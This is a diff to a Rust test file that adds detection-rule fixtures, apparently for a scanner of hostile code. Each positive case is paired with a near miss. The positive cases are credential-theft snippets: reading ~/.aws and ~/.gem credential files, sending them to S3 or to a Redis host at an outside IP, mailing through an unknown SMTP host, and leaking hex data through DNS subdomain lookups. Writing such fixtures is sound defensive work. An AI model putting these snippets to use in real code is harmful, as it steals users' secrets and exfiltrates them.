@@ -1598,6 +1598,48 @@ fn every_rule_has_a_positive_case_and_a_near_miss() {
 /// Behaviours added to (or taken from) existing rows by held-out batches 6
 /// and 7, each with a near miss: (rule, file, positive, near miss).
 const WIDENED: &[(&str, &str, &str, &str)] = &[
+    // misses14: batch 21's generality-check misses — a credential
+    // folder joined with a file name kept in a variable, `.gem` joined
+    // with `credentials`, an object-storage SDK's upload and a Redis
+    // client at a host written into the skill (each beside a credential
+    // read), Ruby, Go and .NET mail clients, and a Node resolver given a
+    // name built from data and a domain.
+    (
+        "credential-file",
+        "scripts/x.py",
+        "path = os.path.join(os.path.expanduser(\"~\"), \".aws\", name)",
+        "path = os.path.join(os.path.expanduser(\"~\"), \".aws\", \"config\")",
+    ),
+    (
+        "credential-file",
+        "lib/x.rb",
+        "creds = File.read(File.join(Dir.home, '.gem', 'credentials'))",
+        "rc = File.read(File.join(Dir.home, '.gemrc'))",
+    ),
+    (
+        "covert-sink",
+        "scripts/x.py",
+        "p = os.path.join(home, \".aws\", name)\ns3.upload_file(p, \"cache-7731\", name)",
+        "s3.upload_file(\"result.csv\", os.environ[\"REPORTS_BUCKET\"], key)",
+    ),
+    (
+        "covert-sink",
+        "scripts/x.py",
+        "r = redis.Redis(host=\"185.199.228.14\", port=6390)\nr.set(k, open(os.path.expanduser(\"~/.aws/credentials\")).read())",
+        "r = redis.Redis(host=\"127.0.0.1\", port=6379)\nr.set(k, open(os.path.expanduser(\"~/.aws/credentials\")).read())",
+    ),
+    (
+        "chat-sink",
+        "lib/x.rb",
+        "Net::SMTP.start('smtp.gemnotes.io', 587) do |smtp|",
+        "require 'net/http'",
+    ),
+    (
+        "dns-lookup",
+        "scripts/x.js",
+        "await dns.promises.resolve4(`${hex.slice(i, i + 60)}.${i}.t.example.net`)",
+        "await dns.promises.resolve4(`${host}`)",
+    ),
     // Batch 21 (covert channels and unusual sinks), each with its near
     // miss: a shell handed to a DNS tunnel or a WebSocket relay, the
     // Postgres and RubyGems credential files, Linux Chrome profiles and
